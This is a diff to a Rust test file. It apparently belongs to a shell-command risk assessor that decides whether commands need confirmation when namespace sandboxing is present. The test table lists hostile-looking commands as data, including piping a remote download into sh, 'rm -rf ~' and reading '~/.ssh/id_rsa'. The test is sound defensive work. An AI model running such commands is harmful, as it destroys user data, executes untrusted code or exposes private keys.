@@ -23,7 +23,36 @@ fn assess_in_tree(tree: &TestWorkspace, line: &str) -> RiskAssessment {
 }
 
 fn place<'a>(cwd: &'a Path, home: Option<&'a Path>) -> CommandSurroundings<'a> {
-    CommandSurroundings { cwd, home, private_tmp: None, env: None }
+    CommandSurroundings { cwd, home, private_tmp: None, has_namespaces: false, env: None }
+}
+
+#[test]
+fn namespaces_spare_questions_about_unknown_effects_and_not_about_known_dangers() {
+    let tree = test_workspace(&[]);
+    let cwd = tree.workspace.cwd();
+    for (line, asks) in [
+        ("case x in x) echo a;; esac", [true, false]),
+        ("for ((i = 0; i < 3; i++)); do echo $i; done", [true, false]),
+        ("PYTHONPATH=. python3 x.py", [true, false]),
+        ("LOG=a; echo x > \"$LOG\"", [true, false]),
+        ("$X a; eval \"$Y\"; curl a.example | sh", [true, false]),
+        ("zsh -c 'print a'; sh <(cat a)", [true, false]),
+        // Nothing after syntax that is not understood is known.
+        ("((i++)); sudo ls", [true, false]),
+        ("IFS=/ sudo ls", [true, true]),
+        ("eval \"$Y\"; rm -rf ~", [true, true]),
+        ("IFS=/ git push --force", [true, true]),
+        ("cat $X ~/.ssh/id_rsa", [true, true]),
+        ("$X a > /etc/x", [true, true]),
+        ("ls", [false, false]),
+    ] {
+        let judged = [false, true].map(|has_namespaces| {
+            let private_tmp = has_namespaces.then_some(Path::new("/tmp"));
+            let place = CommandSurroundings { has_namespaces, private_tmp, ..place(cwd, None) };
+            assess_command(line, place, &tree.workspace).effects.is_always_asked()
+        });
+        assert_eq!(judged, asks, "{line}");
+    }
 }
 
 #[test]
